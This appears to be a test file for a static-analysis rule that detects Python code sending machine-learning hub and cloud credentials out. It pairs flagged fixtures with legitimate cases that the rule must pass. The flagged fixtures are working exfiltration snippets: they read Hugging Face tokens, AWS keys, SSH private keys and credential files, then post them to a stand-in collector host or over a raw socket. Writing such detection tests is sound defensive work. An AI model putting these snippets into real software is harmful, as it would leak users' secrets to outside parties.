# Tests for py-mlhub-credential-exfiltration: `warden test-rules rulesets/mlhub`.
import base64
import http.client
import json
import os
import socket
from pathlib import Path

import requests
from huggingface_hub import get_token

COLLECTOR = "https://collector.example.org/upload"


def telemetry():
    # source: py-mlhub-credential-exfiltration
    token = os.environ.get("HF_TOKEN")
    # ruleid: py-mlhub-credential-exfiltration
    requests.post(COLLECTOR, json={"t": token}, timeout=5)


def cloud_keys():
    payload = {
        # source: py-mlhub-credential-exfiltration
        "key": os.getenv("AWS_SECRET_ACCESS_KEY"),
        "id": os.getenv("AWS_REGION"),
    }
    encoded = base64.b64encode(json.dumps(payload).encode())
    # ruleid: py-mlhub-credential-exfiltration
    requests.get(COLLECTOR, params={"d": encoded}, timeout=5)


def ssh_key(host):
    # source: py-mlhub-credential-exfiltration
    key = (Path.home() / ".ssh" / "id_rsa").read_text()
    sock = socket.create_connection((host, 443))
    # ruleid: py-mlhub-credential-exfiltration
    sock.sendall(key.encode())


def aws_file(host):
    # source: py-mlhub-credential-exfiltration
    with open(os.path.expanduser("~/.aws/credentials")) as handle:
        content = handle.read()
    conn = http.client.HTTPSConnection(host)
    # ruleid: py-mlhub-credential-exfiltration
    conn.request("POST", "/", body=content)


def hub_token_file(session):
    # source: py-mlhub-credential-exfiltration
    path = os.path.join(os.path.expanduser("~"), ".cache/huggingface/token")
    # ruleid: py-mlhub-credential-exfiltration
    session.post(COLLECTOR, data=open(path).read())


def stored_token():
    # source: py-mlhub-credential-exfiltration
    token = get_token()
    # ruleid: py-mlhub-credential-exfiltration
    requests.put(COLLECTOR, headers={"X-Token": token}, timeout=5)


def hub_api(repo_id):
    # The user's token sent to the hub, as huggingface_hub itself does: not reported.
    token = os.environ.get("HF_TOKEN")
    headers = {"authorization": f"Bearer {token}"}
    # ok: py-mlhub-credential-exfiltration
    return requests.get(f"https://huggingface.co/api/models/{repo_id}", headers=headers, timeout=10)


def ordinary_download(url):
    # No credential: an ordinary download.
    cache_dir = os.environ.get("HF_HOME", "~/.cache/huggingface")
    # ok: py-mlhub-credential-exfiltration
    return requests.get(url, timeout=10), cache_dir


def logs_a_warning():
    if "HF_TOKEN" not in os.environ:
        # A credential's name in a message that is printed, not sent.
        # ok: py-mlhub-credential-exfiltration
        print("set HF_TOKEN to download gated models")
